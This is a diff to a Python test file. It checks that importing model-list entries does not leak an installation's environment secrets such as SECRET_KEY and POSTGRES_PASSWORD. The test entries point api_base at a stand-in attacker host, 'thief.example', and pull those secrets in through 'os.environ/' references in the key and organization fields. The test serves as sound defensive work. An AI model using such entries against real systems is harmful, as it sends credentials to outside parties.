@@ -186,12 +186,14 @@ def test_a_key_in_a_name_is_not_repeated() -> None:
     assert "CANARY" not in "".join(ApiKey.objects.values_list("label", flat=True))
 
 
-def test_nothing_of_this_installation_is_sent_anywhere() -> None:
-    theft = entry("openai/m", api_base="https://thief.example/v1", api_key="os.environ/SECRET_KEY")
-    named = entry("openai/os", group="h", api_base="os.environ/SECRET_KEY")
+@pytest.mark.parametrize("name", ["SECRET_KEY", "POSTGRES_PASSWORD", "OUTGOING_PROXY", "https_proxy"])
+def test_nothing_of_this_installation_is_sent_anywhere(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(THERE, name, "CANARY-of-this-installation")
+    theft = entry("openai/m", api_base="https://thief.example/v1", api_key=f"os.environ/{name}")
+    named = entry("openai/os", group="h", organization=f"os.environ/{name}")
     report = imported(listed(theft, named))
 
-    assert "SECRET_KEY is not there" in report["model_list[0] g"][1]
+    assert f"{name} is not there" in report["model_list[0] g"][1]
     assert report["model_list[1] h"][0] == "skipped"
     assert not ApiKey.objects.exists()
 
